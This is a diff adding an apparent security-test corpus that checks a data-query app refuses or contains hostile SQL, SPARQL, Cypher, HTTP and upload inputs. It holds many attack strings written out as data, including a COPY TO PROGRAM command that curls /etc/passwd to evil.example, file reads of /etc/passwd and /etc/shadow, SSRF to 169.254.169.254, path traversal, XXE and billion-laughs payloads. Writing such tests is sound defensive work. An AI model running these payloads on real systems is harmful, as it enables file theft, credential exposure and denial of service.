@@ -1,0 +1,367 @@
+import Database from "better-sqlite3";
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+
+/**
+ * The attack corpus of issue 16: what an attacker tries through generated or saved queries, plain HTTP
+ * and uploads. Every case must be refused or contained (no data changed, no secret shown). The engine
+ * cases run against real engines in tests/integration/security/, the HTTP and upload cases against the
+ * running app in tests/e2e/security.test.ts, and all of them in a loop by `npm run bench -- attack`.
+ *
+ * SQL texts name the target's table as {t} and one of its text columns as {c}, so the same corpus runs
+ * on the tests' own databases and on the demo workspace's sales database.
+ */
+
+export type EngineCategory = "sql-sqlite" | "sql-postgres" | "sparql" | "cypher";
+export type AttackCategory = EngineCategory | "http" | "upload";
+
+export interface QueryAttack {
+  category: EngineCategory;
+  name: string;
+  text: string;
+  /**
+   * refused: stopped before anything runs (the query checks). contained: the engine runs it under its
+   * walls and stops it (time, memory, result size) or cuts what it returns.
+   */
+  expect: "refused" | "contained";
+  /** What the refusal, the stop, or the returned (cut) values say. */
+  says: RegExp;
+  timeoutMs?: number;
+}
+
+export interface SqlTarget {
+  /** A table of the target database and one of its text columns. */
+  table: string;
+  column: string;
+}
+
+export function sqlText(attack: Pick<QueryAttack, "text">, target: SqlTarget): string {
+  return attack.text.replaceAll("{t}", target.table).replaceAll("{c}", target.column);
+}
+
+const FN = (name: string) => new RegExp(`${name.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\\(\\) is not allowed`);
+const rows = (n: number, select: string) => `WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r WHERE i < ${n}) SELECT ${select} FROM r`;
+
+/** Refused in both SQL dialects. */
+const SQL_COMMON: Omit<QueryAttack, "category">[] = [
+  { name: "two statements", text: "SELECT 1; DELETE FROM {t}", expect: "refused", says: /holds 2 statements/ },
+  { name: "write after a line comment", text: "SELECT 1; -- report\nDELETE FROM {t}", expect: "refused", says: /holds 2 statements/ },
+  { name: "write after a block comment", text: "SELECT 1 /* ; */; UPDATE {t} SET {c} = 'x'", expect: "refused", says: /holds 2 statements/ },
+  { name: "write hidden behind a comment opener in a string", text: "SELECT '/*'; DELETE FROM {t}; -- */", expect: "refused", says: /holds 2 statements/ },
+  { name: "DELETE", text: "DELETE FROM {t}", expect: "refused", says: /DELETE is not allowed/ },
+  { name: "UPDATE", text: "UPDATE {t} SET {c} = 'x'", expect: "refused", says: /UPDATE is not allowed/ },
+  { name: "INSERT … SELECT", text: "INSERT INTO {t} SELECT * FROM {t}", expect: "refused", says: /INSERT is not allowed/ },
+  { name: "DROP TABLE", text: "DROP TABLE {t}", expect: "refused", says: /DROP is not allowed/ },
+  { name: "CREATE TABLE AS", text: "CREATE TABLE stolen AS SELECT * FROM {t}", expect: "refused", says: /CREATE is not allowed/ },
+  { name: "ALTER TABLE", text: "ALTER TABLE {t} ADD COLUMN x int", expect: "refused", says: /ALTER is not allowed/ },
+  { name: "DELETE inside a CTE", text: "WITH d AS (DELETE FROM {t} RETURNING *) SELECT * FROM d", expect: "refused", says: /WITH clause may only hold SELECT queries, and this one holds DELETE/ },
+  { name: "comment-wrapped keyword", text: "/* SELECT */ DROP TABLE {t}", expect: "refused", says: /DROP is not allowed/ },
+  { name: "BEGIN", text: "BEGIN", expect: "refused", says: /BEGIN is not allowed/ },
+  { name: "EXPLAIN of a write", text: "EXPLAIN DELETE FROM {t}", expect: "refused", says: /EXPLAIN is not allowed/ },
+  { name: "the unbalanced-parenthesis parser bomb (15)", text: `SELECT ${"(".repeat(15)}1`, expect: "refused", says: /15 parentheses are opened but never closed/ },
+  { name: "the unbalanced-parenthesis parser bomb (25)", text: `SELECT ${"(".repeat(25)}1`, expect: "refused", says: /25 parentheses are opened but never closed/ },
+  { name: "a balanced parser bomb", text: `SELECT ${"(".repeat(18)}1,${")".repeat(18)}`, expect: "refused", says: /too complex to check|could not be parsed/ },
+  { name: "nesting past the limit", text: `SELECT ${"(".repeat(200)}1${")".repeat(200)}`, expect: "refused", says: /nests parentheses 200 levels deep/ },
+  { name: "a text past the size limit", text: `SELECT '${"x".repeat(30_000)}'`, expect: "refused", says: /characters long, and at most/ },
+  { name: "an unknown function", text: "SELECT evil({c}) FROM {t}", expect: "refused", says: FN("evil") },
+  { name: "a recursive query that never ends", text: "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c", expect: "contained", says: /ran longer than \d+ ms and was stopped/, timeoutMs: 1_500 },
+];
+
+const SQLITE: Omit<QueryAttack, "category">[] = [
+  { name: "ATTACH", text: "ATTACH DATABASE '/tmp/mosaic-evil.sqlite' AS evil", expect: "refused", says: /ATTACH is not allowed/ },
+  { name: "DETACH", text: "DETACH DATABASE main", expect: "refused", says: /DETACH is not allowed/ },
+  { name: "PRAGMA query_only = OFF", text: "PRAGMA query_only = OFF", expect: "refused", says: /PRAGMA is not allowed/ },
+  { name: "PRAGMA writable_schema after a SELECT", text: "SELECT 1; PRAGMA writable_schema = ON", expect: "refused", says: /holds 2 statements/ },
+  { name: "VACUUM INTO", text: "VACUUM INTO '/tmp/mosaic-copy.sqlite'", expect: "refused", says: /VACUUM is not allowed/ },
+  { name: "REPLACE INTO", text: "REPLACE INTO {t} ({c}) VALUES ('x')", expect: "refused", says: /REPLACE is not allowed/ },
+  { name: "CREATE TEMP TABLE", text: "CREATE TEMP TABLE t AS SELECT 1", expect: "refused", says: /CREATE is not allowed/ },
+  { name: "load_extension", text: "SELECT load_extension('/tmp/evil.so')", expect: "refused", says: FN("load_extension") },
+  { name: "load_extension, quoted and upper-case", text: `SELECT "LOAD_EXTENSION"('x')`, expect: "refused", says: FN("load_extension") },
+  { name: "readfile", text: "SELECT readfile('/etc/passwd')", expect: "refused", says: FN("readfile") },
+  { name: "writefile", text: "SELECT writefile('/tmp/mosaic-x', 'pwned')", expect: "refused", says: FN("writefile") },
+  { name: "fts3_tokenizer", text: "SELECT fts3_tokenizer('simple', x'00')", expect: "refused", says: FN("fts3_tokenizer") },
+  { name: "fsdir", text: "SELECT name FROM fsdir('/etc')", expect: "refused", says: FN("fsdir") },
+  { name: "a '#' comment the engine does not have", text: "SELECT 1 # ; DELETE FROM {t}", expect: "refused", says: /holds 2 statements/ },
+  { name: "a backslash escape the engine does not have", text: "SELECT 'a\\', load_extension('x') --'", expect: "refused", says: FN("load_extension") },
+  { name: "the nested-comment trick", text: "SELECT 1 /* /* */ ; DELETE FROM {t}; -- */", expect: "refused", says: /holds 2 statements/ },
+  { name: "hex(zeroblob(…)) builds 1 GB", text: "SELECT hex(zeroblob(500000000))", expect: "refused", says: FN("zeroblob") },
+  { name: "randomblob", text: "SELECT randomblob(1000000000)", expect: "refused", says: FN("randomblob") },
+  { name: "pragma_database_list shows file paths", text: "SELECT file FROM pragma_database_list", expect: "refused", says: /pragma_database_list/ },
+  { name: "pragma_table_info as a table function", text: "SELECT * FROM pragma_table_info('{t}')", expect: "refused", says: /pragma_table_info/ },
+  { name: "dbstat", text: "SELECT * FROM dbstat", expect: "refused", says: /dbstat is not allowed/ },
+  { name: "sqlite_compileoption_get", text: "SELECT sqlite_compileoption_get(0)", expect: "refused", says: FN("sqlite_compileoption_get") },
+  { name: "changes()", text: "SELECT changes()", expect: "refused", says: FN("changes") },
+  { name: "an unknown function in HAVING", text: "SELECT {c} FROM {t} GROUP BY {c} HAVING unknown_fn(count(*)) > 1", expect: "refused", says: FN("unknown_fn") },
+  { name: "a 100 MB value (printf width)", text: "SELECT printf('%.*c', 100000000, 'x') AS big", expect: "contained", says: /\[cut: the value is 100,000,000 bytes long; values are kept up to 65,536 bytes\]/ },
+  { name: "300 rows of 1 MB each", text: rows(300, "i, printf('%.*c', 1000000, 'x')"), expect: "contained", says: /The result is larger than 16 MB, the most one query may return, so it was stopped/ },
+  { name: "string doubling in a recursive query", text: "WITH RECURSIVE d(s, n) AS (SELECT 'x', 0 UNION ALL SELECT s || s, n + 1 FROM d WHERE n < 40) SELECT length(s) FROM d", expect: "contained", says: /needed more than the \d+ MB of memory|too large for SQLite|ran longer than/, timeoutMs: 8_000 },
+  { name: "huge values row after row until the deadline", text: rows(1_000_000, "printf('%.*c', 20000000, 'x')"), expect: "contained", says: /ran longer than \d+ ms|larger than 16 MB/, timeoutMs: 3_000 },
+];
+
+const POSTGRES: Omit<QueryAttack, "category">[] = [
+  { name: "COPY … TO PROGRAM", text: "COPY {t} TO PROGRAM 'curl http://evil.example -d @/etc/passwd'", expect: "refused", says: /COPY is not allowed/ },
+  { name: "COPY FROM a file", text: "COPY {t} FROM '/etc/passwd'", expect: "refused", says: /COPY is not allowed/ },
+  { name: "UPDATE inside a CTE", text: "WITH u AS (UPDATE {t} SET {c} = 'x' RETURNING *) SELECT count(*) FROM u", expect: "refused", says: /WITH clause may only hold SELECT.*UPDATE/ },
+  { name: "SELECT INTO", text: "SELECT * INTO stolen FROM {t}", expect: "refused", says: /SELECT … INTO creates a table/ },
+  { name: "FOR UPDATE", text: "SELECT * FROM {t} FOR UPDATE", expect: "refused", says: /row locks/ },
+  { name: "SET", text: "SET statement_timeout = 0", expect: "refused", says: /SET is not allowed/ },
+  { name: "DO block", text: "DO $$ BEGIN DELETE FROM {t}; END $$", expect: "refused", says: /DO is not allowed/ },
+  { name: "CALL", text: "CALL cleanup()", expect: "refused", says: /CALL is not allowed/ },
+  { name: "PREPARE", text: "PREPARE p AS DELETE FROM {t}", expect: "refused", says: /PREPARE is not allowed/ },
+  { name: "NOTIFY", text: "NOTIFY channel, 'x'", expect: "refused", says: /NOTIFY is not allowed/ },
+  { name: "ts_stat runs pg_terminate_backend from a string", text: "SELECT * FROM ts_stat('SELECT to_tsvector(pg_terminate_backend(pid)::text) FROM pg_stat_activity')", expect: "refused", says: FN("ts_stat") },
+  { name: "ts_stat runs set_config from a string", text: "SELECT * FROM ts_stat($$SELECT to_tsvector(set_config('statement_timeout', '0', false))$$)", expect: "refused", says: FN("ts_stat") },
+  { name: "ts_stat runs pg_notify from a string", text: "SELECT * FROM ts_stat('SELECT to_tsvector(pg_notify(''c'', ''x'')::text)')", expect: "refused", says: FN("ts_stat") },
+  { name: "ts_rewrite runs SQL from a string", text: "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery')", expect: "refused", says: FN("ts_rewrite") },
+  { name: "ts_stat in a CTE", text: "WITH w AS (SELECT * FROM ts_stat('SELECT 1')) SELECT * FROM w", expect: "refused", says: FN("ts_stat") },
+  { name: "ts_stat in a LATERAL join", text: "SELECT * FROM {t}, LATERAL ts_stat('SELECT 1') AS s", expect: "refused", says: FN("ts_stat") },
+  { name: "query_to_xml runs SQL from a string", text: "SELECT query_to_xml('DELETE FROM {t}', true, false, '')", expect: "refused", says: FN("query_to_xml") },
+  { name: "cursor_to_xml", text: "SELECT cursor_to_xml('c', 1, true, false, '')", expect: "refused", says: FN("cursor_to_xml") },
+  { name: "XMLPARSE with an external entity", text: `SELECT XMLPARSE(DOCUMENT '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')`, expect: "refused", says: /XML functions are not allowed/ },
+  { name: "dblink_exec commits a DELETE elsewhere", text: "SELECT dblink_exec('dbname=postgres', 'DELETE FROM {t}')", expect: "refused", says: FN("dblink_exec") },
+  { name: "dblink in FROM", text: "SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(x int)", expect: "refused", says: FN("dblink") },
+  { name: "pg_terminate_backend", text: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", expect: "refused", says: /pg_terminate_backend\(\) is not allowed|pg_stat_activity is a system catalog/ },
+  { name: "pg_cancel_backend in a UNION", text: "SELECT 1 UNION SELECT pg_cancel_backend(42)::int", expect: "refused", says: FN("pg_cancel_backend") },
+  { name: "set_config", text: "SELECT set_config('statement_timeout', '0', false)", expect: "refused", says: FN("set_config") },
+  { name: "pg_notify", text: "SELECT pg_notify('ch', 'x')", expect: "refused", says: FN("pg_notify") },
+  { name: "pg_read_file", text: "SELECT pg_read_file('/etc/passwd')", expect: "refused", says: FN("pg_read_file") },
+  { name: "pg_read_file, schema-qualified in FROM", text: "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')", expect: "refused", says: FN("pg_read_file") },
+  { name: "pg_read_binary_file", text: "SELECT pg_read_binary_file('/etc/shadow')", expect: "refused", says: FN("pg_read_binary_file") },
+  { name: "pg_ls_dir", text: "SELECT pg_ls_dir('.')", expect: "refused", says: FN("pg_ls_dir") },
+  { name: "lo_import", text: "SELECT lo_import('/etc/passwd')", expect: "refused", says: FN("lo_import") },
+  { name: "lo_export", text: "SELECT lo_export(1234, '/tmp/x')", expect: "refused", says: FN("lo_export") },
+  { name: "nextval", text: "SELECT nextval('seq')", expect: "refused", says: FN("nextval") },
+  { name: "advisory lock", text: "SELECT pg_advisory_lock(1)", expect: "refused", says: FN("pg_advisory_lock") },
+  { name: "txid_current", text: "SELECT txid_current()", expect: "refused", says: FN("txid_current") },
+  { name: "pg_reload_conf", text: "SELECT pg_reload_conf()", expect: "refused", says: FN("pg_reload_conf") },
+  { name: "gin_clean_pending_list", text: "SELECT gin_clean_pending_list('idx'::regclass)", expect: "refused", says: FN("gin_clean_pending_list") },
+  { name: "brin_summarize_new_values", text: "SELECT brin_summarize_new_values('idx')", expect: "refused", says: FN("brin_summarize_new_values") },
+  { name: "brin_desummarize_range", text: "SELECT brin_desummarize_range('idx', 0)", expect: "refused", says: FN("brin_desummarize_range") },
+  { name: "pg_sleep", text: "SELECT pg_sleep(60)", expect: "refused", says: FN("pg_sleep") },
+  { name: "current_setting", text: "SELECT current_setting('data_directory')", expect: "refused", says: FN("current_setting") },
+  { name: "repeat('x', 3e8)", text: "SELECT repeat('x', 300000000)", expect: "refused", says: FN("repeat") },
+  { name: "generate_series row bomb", text: "SELECT count(*) FROM generate_series(1, 10000000000)", expect: "refused", says: FN("generate_series") },
+  { name: "a function of the knowledge base's schema", text: "SELECT public.forget_customers()", expect: "refused", says: /public\.forget_customers\(\) is not allowed; only built-in functions/ },
+  { name: "an operator of another schema", text: "SELECT 1 OPERATOR(public.+) 1", expect: "refused", says: /operator public\.\+ is not allowed/ },
+  { name: "cast to regclass", text: "SELECT 'pg_authid'::regclass", expect: "refused", says: /casting to regclass is not allowed/ },
+  { name: "pg_authid (password hashes)", text: "SELECT rolname, rolpassword FROM pg_authid", expect: "refused", says: /pg_authid is a system catalog/ },
+  { name: "pg_shadow", text: "SELECT * FROM pg_catalog.pg_shadow", expect: "refused", says: /pg_shadow is a system catalog/ },
+  { name: "pg_settings", text: "SELECT setting FROM pg_settings", expect: "refused", says: /pg_settings is a system catalog/ },
+  { name: "information_schema", text: "SELECT * FROM information_schema.role_table_grants", expect: "refused", says: /information_schema\.role_table_grants is a system catalog/ },
+  { name: "TABLE pg_authid", text: "TABLE pg_authid", expect: "refused", says: /pg_authid is a system catalog/ },
+  { name: "CURRENT_USER", text: "SELECT CURRENT_USER", expect: "refused", says: /CURRENT_USER is not allowed/ },
+  { name: "MERGE", text: "MERGE INTO {t} a USING {t} b ON a.{c} = b.{c} WHEN MATCHED THEN DELETE", expect: "refused", says: /MERGE is not allowed/ },
+  { name: "VACUUM", text: "VACUUM {t}", expect: "refused", says: /VACUUM is not allowed/ },
+  { name: "a 1 MB value from lpad (cut by the server before sending)", text: "SELECT lpad('x', 1000000, 'y') AS big", expect: "contained", says: /\[cut: the value is 1,000,000 bytes long; values are kept up to 65,536 bytes\]/ },
+  { name: "a 32 MB aggregate value", text: `SELECT string_agg(md5(i::text), '') FROM (${rows(1_000_000, "i")}) AS s`, expect: "contained", says: /\[cut: the value is 32,000,000 bytes long|ran longer than/, timeoutMs: 15_000 },
+  { name: "1,000 rows of two 100 KB values", text: rows(1_000, "i, lpad('x', 100000, 'y'), lpad('z', 100000, 'w')"), expect: "contained", says: /The result is larger than 16 MB, the most one query may return, so it was stopped/, timeoutMs: 15_000 },
+  { name: "lpad to 300 MB on the server", text: "SELECT lpad('x', 300000000, 'y')", expect: "contained", says: /ran longer than|cut: the value is 300,000,000 bytes|too complex for the PostgreSQL server|ran out of resources/, timeoutMs: 10_000 },
+];
+
+const SPARQL: Omit<QueryAttack, "category">[] = [
+  { name: "INSERT DATA", text: 'INSERT DATA { <http://x/a> <http://x/b> "pwned" }', expect: "refused", says: /updates are not allowed \(found INSERT DATA\)/ },
+  { name: "DELETE WHERE", text: "DELETE WHERE { ?s ?p ?o }", expect: "refused", says: /found DELETE WHERE/ },
+  { name: "DELETE/INSERT … WHERE", text: 'DELETE { ?s ?p ?o } INSERT { ?s ?p "x" } WHERE { ?s ?p ?o }', expect: "refused", says: /found DELETE\/INSERT/ },
+  { name: "LOAD a remote file", text: "LOAD <http://evil.example/data.ttl>", expect: "refused", says: /found LOAD/ },
+  { name: "DROP ALL", text: "DROP ALL", expect: "refused", says: /found DROP/ },
+  { name: "CLEAR DEFAULT", text: "CLEAR DEFAULT", expect: "refused", says: /found CLEAR/ },
+  { name: "CREATE GRAPH", text: "CREATE GRAPH <http://x/g>", expect: "refused", says: /found CREATE/ },
+  { name: "COPY / MOVE / ADD", text: "COPY DEFAULT TO <http://x/copy>", expect: "refused", says: /found COPY/ },
+  { name: "an update after a comment", text: "# SELECT * WHERE { ?s ?p ?o }\nDROP ALL", expect: "refused", says: /found DROP/ },
+  { name: "a query followed by ; INSERT", text: 'SELECT * WHERE { ?s ?p ?o } ; INSERT DATA { <http://x/a> <http://x/b> "c" }', expect: "refused", says: /second operation after ";"/ },
+  { name: "SERVICE federation", text: "SELECT * WHERE { SERVICE <http://attacker.example/sparql> { ?s ?p ?o } }", expect: "refused", says: /SERVICE clauses .* not allowed/ },
+  { name: "SERVICE in OPTIONAL in a sub-query", text: "SELECT ?s WHERE { { SELECT ?s WHERE { ?s ?p ?o OPTIONAL { SERVICE SILENT <http://x.example/s> { ?s ?q ?z } } } } }", expect: "refused", says: /SERVICE/ },
+  { name: "SERVICE in FILTER EXISTS", text: "ASK { ?s ?p ?o FILTER EXISTS { SERVICE <http://x.example/s> { ?s ?p ?o } } }", expect: "refused", says: /SERVICE/ },
+  { name: "SERVICE on a variable", text: "SELECT * WHERE { ?e <http://x/ep> ?url SERVICE ?url { ?s ?p ?o } }", expect: "refused", says: /SERVICE/ },
+  { name: "a Virtuoso DEFINE pragma", text: 'DEFINE get:soft "replace" SELECT * FROM <http://evil.example/> WHERE { ?s ?p ?o }', expect: "refused", says: /could not be parsed/ },
+  { name: "2,000 nested groups", text: `SELECT * WHERE ${"{".repeat(2_000)} ?s ?p ?o ${"}".repeat(2_000)}`, expect: "refused", says: /nests groups and parentheses 2000 levels deep/ },
+  { name: "5,000 nested groups", text: `SELECT * WHERE ${"{".repeat(5_000)} ?s ?p ?o ${"}".repeat(5_000)}`, expect: "refused", says: /nests groups and parentheses 5000 levels deep/ },
+  { name: "5,000 nested parentheses in a FILTER", text: `SELECT * WHERE { ?s ?p ?o FILTER(${"(".repeat(5_000)}1${")".repeat(5_000)}) }`, expect: "refused", says: /levels deep/ },
+  { name: "1,000 nested blank nodes", text: `SELECT * WHERE { ?s ?p ${"[ <http://x/p> ".repeat(1_000)}?o${" ]".repeat(1_000)} }`, expect: "refused", says: /levels deep/ },
+  { name: "a text past the size limit", text: `SELECT * WHERE { ?s ?p "${"x".repeat(30_000)}" }`, expect: "refused", says: /characters long, and at most/ },
+  { name: "CONCAT doubling to gigabytes", text: `SELECT (STRLEN(?v32) AS ?n) WHERE { ?s ?p ?o BIND(STR(?o) AS ?v0) ${Array.from({ length: 32 }, (_, i) => `BIND(CONCAT(?v${i}, ?v${i}) AS ?v${i + 1})`).join(" ")} } LIMIT 1`, expect: "contained", says: /needed more than the \d+ MB of memory|ran longer than/, timeoutMs: 10_000 },
+  { name: "a 1 MB value (CONCAT doubling to 2^20)", text: `SELECT ?v20 WHERE { ?s ?p ?o BIND("x" AS ?v0) ${Array.from({ length: 20 }, (_, i) => `BIND(CONCAT(?v${i}, ?v${i}) AS ?v${i + 1})`).join(" ")} } LIMIT 1`, expect: "contained", says: /\[cut: the value is 1,048,576 bytes long/ },
+  { name: "a cross product that never ends", text: "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n2 ?o }", expect: "contained", says: /ran longer than \d+ ms|needed more than/, timeoutMs: 1_500 },
+  { name: "a regular expression bomb", text: 'SELECT ?s WHERE { ?s ?p ?o FILTER(REGEX(CONCAT(STR(?o), "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"), "^(a+)+$")) }', expect: "contained", says: /ran longer than|^ok$/, timeoutMs: 1_500 },
+];
+
+const CYPHER: Omit<QueryAttack, "category">[] = [
+  { name: "CREATE", text: "CREATE (n:Pwned {at: 1}) RETURN n", expect: "refused", says: /only read the graph, and this one writes \(CREATE\)/ },
+  { name: "MERGE", text: "MERGE (n:Pwned {at: 1}) RETURN n", expect: "refused", says: /writes/ },
+  { name: "DELETE", text: "MATCH (n) DETACH DELETE n", expect: "refused", says: /writes \(DETACH DELETE\)/ },
+  { name: "SET", text: "MATCH (n) SET n.pwned = true RETURN count(n)", expect: "refused", says: /writes/ },
+  { name: "REMOVE", text: "MATCH (n) REMOVE n.name RETURN count(n)", expect: "refused", says: /writes/ },
+  { name: "FOREACH", text: "MATCH (n) FOREACH (x IN [1] | SET n.p = x) RETURN 1", expect: "refused", says: /writes/ },
+  { name: "LOAD CSV", text: "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line", expect: "refused", says: /LOAD CSV is not allowed/ },
+  { name: "CALL … IN TRANSACTIONS", text: "UNWIND range(1, 10) AS i CALL { WITH i RETURN i AS j } IN TRANSACTIONS RETURN j", expect: "refused", says: /IN TRANSACTIONS is not allowed|could not be parsed|TransactionApply/ },
+  { name: "dbms procedure", text: "CALL dbms.listConfig() YIELD name RETURN name", expect: "refused", says: /dbms\.\* procedures are not allowed|administration/ },
+  { name: "an unknown procedure", text: "CALL db.createLabel('X')", expect: "refused", says: /not allowed/ },
+  { name: "SHOW USERS", text: "SHOW USERS", expect: "refused", says: /administration commands are not allowed|not allowed|schema or system command/ },
+  { name: "CREATE INDEX", text: "CREATE INDEX pwned FOR (n:Movie) ON (n.title)", expect: "refused", says: /changes the schema|schema or system command/ },
+  { name: "two statements", text: "MATCH (n) RETURN n; MATCH (n) DETACH DELETE n", expect: "refused", says: /only one Cypher statement/ },
+  { name: "a write hidden after a comment", text: "MATCH (n) RETURN count(n) // harmless\nUNION MATCH (m) DETACH DELETE m RETURN 0", expect: "refused", says: /writes|could not be parsed|All sub queries/ },
+  { name: "a text past the size limit", text: `RETURN '${"x".repeat(30_000)}' AS x`, expect: "refused", says: /characters long, and at most/ },
+  { name: "a billion rows that never end", text: "UNWIND range(1, 1000000000) AS i WITH i WHERE i * 2 = -1 RETURN count(i) AS n", expect: "contained", says: /ran longer than \d+ ms/, timeoutMs: 1_500 },
+  { name: "string doubling to a huge value", text: "RETURN reduce(s = 'x', i IN range(1, 24) | s + s) AS big", expect: "contained", says: /\[cut: the value is 16,777,216 bytes long|needed more|ran longer/ },
+];
+
+function inCategory(category: EngineCategory, list: Omit<QueryAttack, "category">[]): QueryAttack[] {
+  return list.map((a) => ({ ...a, category }));
+}
+
+export const QUERY_ATTACKS: QueryAttack[] = [
+  ...inCategory("sql-sqlite", [...SQL_COMMON, ...SQLITE]),
+  ...inCategory("sql-postgres", [...SQL_COMMON, ...POSTGRES]),
+  ...inCategory("sparql", SPARQL),
+  ...inCategory("cypher", CYPHER),
+];
+
+export function queryAttacks(category: EngineCategory): QueryAttack[] {
+  return QUERY_ATTACKS.filter((a) => a.category === category);
+}
+
+// ------------------------------------------------------------------------------------------------
+// HTTP: routes and actions without a session or with the wrong role. Actions are named by their
+// export; the client finds their ids in the built app's server-reference manifest.
+
+export type Actor = "anonymous" | "USER" | "ANALYST" | "ADMIN";
+
+export interface HttpAttack {
+  category: "http";
+  name: string;
+  as: Actor;
+  request: { method: "GET" | "POST" | "PUT" | "DELETE"; path: string; json?: unknown } | { action: string; input: unknown };
+  /** Acceptable HTTP statuses (routes), or the action error codes that count as refused. */
+  refusedWith: (number | string)[];
+  /** Text the answer must not contain (secrets). */
+  mustNotContain?: RegExp;
+}
+
+const SECRET = /passwordHash|secretsCiphertext|argon2|"password"\s*:|apiKey"\s*:\s*"[^"]/;
+
+export const HTTP_ATTACKS: HttpAttack[] = [
+  { category: "http", name: "list knowledge bases without a session", as: "anonymous", request: { method: "GET", path: "/api/knowledge-bases" }, refusedWith: [401, 405] },
+  { category: "http", name: "register a knowledge base without a session", as: "anonymous", request: { method: "POST", path: "/api/knowledge-bases", json: { kind: "SQL", name: "x", connection: { dialect: "sqlite" } } }, refusedWith: [401] },
+  { category: "http", name: "register a knowledge base as a business user", as: "USER", request: { method: "POST", path: "/api/knowledge-bases", json: { kind: "SQL", name: "x", connection: { dialect: "sqlite" } } }, refusedWith: [403] },
+  { category: "http", name: "register a knowledge base as an analyst", as: "ANALYST", request: { method: "POST", path: "/api/knowledge-bases", json: { kind: "SPARQL", name: "x", connection: { mode: "remote", endpoint: "http://169.254.169.254/latest" } } }, refusedWith: [403] },
+  { category: "http", name: "list users without a session", as: "anonymous", request: { method: "GET", path: "/api/admin/users" }, refusedWith: [401] },
+  { category: "http", name: "list users as an analyst", as: "ANALYST", request: { method: "GET", path: "/api/admin/users" }, refusedWith: [403], mustNotContain: SECRET },
+  { category: "http", name: "list users as a business user", as: "USER", request: { method: "GET", path: "/api/admin/users" }, refusedWith: [403], mustNotContain: SECRET },
+  { category: "http", name: "who am I without a session", as: "anonymous", request: { method: "GET", path: "/api/me" }, refusedWith: [401] },
+  { category: "http", name: "start a run without a session", as: "anonymous", request: { method: "POST", path: "/api/runs", json: { question: "How many orders were returned?" } }, refusedWith: [401] },
+  { category: "http", name: "read a run that does not exist (or is someone else's)", as: "USER", request: { method: "GET", path: "/api/runs/clxxxxxxxxxxxxxxxxxxxxxxx" }, refusedWith: [404] },
+  { category: "http", name: "evaluation reports as a business user", as: "USER", request: { method: "GET", path: "/api/eval/reports" }, refusedWith: [403] },
+  { category: "http", name: "evaluation suites without a session", as: "anonymous", request: { method: "GET", path: "/api/eval/suites" }, refusedWith: [401] },
+  { category: "http", name: "start an evaluation as a business user", as: "USER", request: { method: "POST", path: "/api/eval/reports", json: { suite: "demo" } }, refusedWith: [403] },
+  { category: "http", name: "path traversal in a report id", as: "ADMIN", request: { method: "GET", path: "/api/eval/reports/..%2F..%2F..%2Fetc%2Fpasswd" }, refusedWith: [404, 400], mustNotContain: /root:x:0:0/ },
+  { category: "http", name: "a forged session cookie", as: "anonymous", request: { method: "GET", path: "/api/me" }, refusedWith: [401] },
+  { category: "http", name: "run a native query as a business user", as: "USER", request: { action: "captureContextAction", input: { kbId: "{sqlKb}", kind: "NATIVE_QUERY", params: { query: { language: "sql", text: "SELECT * FROM customers" } } } }, refusedWith: ["FORBIDDEN"] },
+  { category: "http", name: "run a native query without a session", as: "anonymous", request: { action: "captureContextAction", input: { kbId: "{sqlKb}", kind: "NATIVE_QUERY", params: { query: { language: "sql", text: "SELECT 1" } } } }, refusedWith: ["UNAUTHENTICATED", 401, 403, 404] },
+  { category: "http", name: "save a dynamic source object as a business user", as: "USER", request: { action: "createDynamicSourceObjectAction", input: { kbId: "{sqlKb}", name: "x", query: { language: "sql", text: "SELECT 1" } } }, refusedWith: ["FORBIDDEN", "VALIDATION"] },
+  { category: "http", name: "check a knowledge base as an analyst", as: "ANALYST", request: { action: "checkKbAction", input: { id: "{sqlKb}" } }, refusedWith: ["FORBIDDEN"] },
+  { category: "http", name: "delete a knowledge base as an analyst", as: "ANALYST", request: { action: "deleteKbAction", input: { id: "{sqlKb}", confirmName: "x" } }, refusedWith: ["FORBIDDEN"] },
+  { category: "http", name: "accept a superuser's risk as an analyst", as: "ANALYST", request: { action: "setPrivilegeRiskAction", input: { id: "{sqlKb}", accept: true } }, refusedWith: ["FORBIDDEN"] },
+  { category: "http", name: "clear sign-in throttles as an analyst", as: "ANALYST", request: { action: "clearSignInThrottlesAction", input: { keys: [] } }, refusedWith: ["FORBIDDEN"] },
+  { category: "http", name: "clear sign-in throttles without a session", as: "anonymous", request: { action: "clearSignInThrottlesAction", input: { keys: [] } }, refusedWith: ["UNAUTHENTICATED", 401, 403, 404] },
+  { category: "http", name: "change the LLM settings as an analyst", as: "ANALYST", request: { action: "saveLlmSettingsAction", input: { baseUrl: "http://evil.example/v1" } }, refusedWith: ["FORBIDDEN", "VALIDATION"] },
+];
+
+// ------------------------------------------------------------------------------------------------
+// Uploads: registering knowledge bases from hostile files (as an admin: the role that may upload).
+
+export interface UploadAttack {
+  category: "upload";
+  name: string;
+  kind: "SQL" | "SPARQL" | "DOCUMENTS";
+  files: { name: string; bytes: () => Buffer }[];
+  /** What the refusal says, or "contained" when the upload registers and stays harmless. */
+  says: RegExp;
+}
+
+const billionLaughs = () => {
+  const ents = ['<!ENTITY lol "lol">'];
+  for (let i = 1; i <= 12; i++) ents.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">`);
+  return Buffer.from(
+    `<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [${ents.join("\n")}]>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://x/">` +
+      `<rdf:Description rdf:about="http://x/a"><ex:p>&lol12;</ex:p></rdf:Description></rdf:RDF>`,
+  );
+};
+
+/** A SQLite database file made from `sql`, as bytes to upload. */
+function sqliteFile(sql: string): Buffer {
